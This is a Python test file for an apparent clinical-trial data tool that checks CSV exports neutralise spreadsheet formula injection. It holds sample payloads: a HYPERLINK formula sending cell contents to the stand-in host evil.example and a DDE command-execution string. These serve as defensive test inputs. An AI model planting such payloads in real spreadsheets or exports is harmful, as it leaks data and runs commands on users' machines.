"""Issue 13 part 6: CSV formula injection. An AE term (or any text) that a spreadsheet would run
as a formula is written inert in every CSV of an export; numbers stay numbers."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pandas as pd
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from remit import services as sv
from remit.interop import export_trial
from remit.interop.tidy import write_csv
from remit.store import actor_for

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_an_ae_term_starting_with_equals_is_neutralised_in_csv_exports(
    trial_engine: Engine, tmp_path: Path
) -> None:
    with Session(trial_engine) as session:
        investigator = actor_for(session, "kari")
        statistician = actor_for(session, "siri")
    sv.record_adverse_event(
        trial_engine,
        investigator,
        "OSL-001",
        term=ATTACK,
        onset_date=date.today(),
        severity="mild",
        relatedness="not_related",
    )
    export_trial(trial_engine, tmp_path / "out", formats=("csv",), actor=statistician)
    cells: list[str] = []
    for file in sorted((tmp_path / "out" / "csv").glob("*.csv")):
        with file.open(encoding="utf-8", newline="") as f:
            cells += [cell for row in csv.reader(f) for cell in row]
    assert "'" + ATTACK in cells  # the term is there, inert
    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert dangerous == []
    assert not [c for c in cells if c.startswith("-") and not _is_number(c)]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_numbers_stay_numbers_and_text_formulas_are_inert(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "study_day": [-3, 14],
            "change": [-3.5, 2.0],
            "term": ["@SUM(A1:A9)", "-3"],
            "note": ["+cmd|' /C calc'!A0", "\tTAB"],
        }
    )
    path = write_csv(frame, tmp_path / "x.csv")
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1] == ["-3", "-3.5", "'@SUM(A1:A9)", "'+cmd|' /C calc'!A0"]
    assert rows[2] == ["14", "2.0", "-3", "'\tTAB"]
    back = pd.read_csv(path)
    assert back["study_day"].tolist() == [-3, 14]  # still numbers when read back
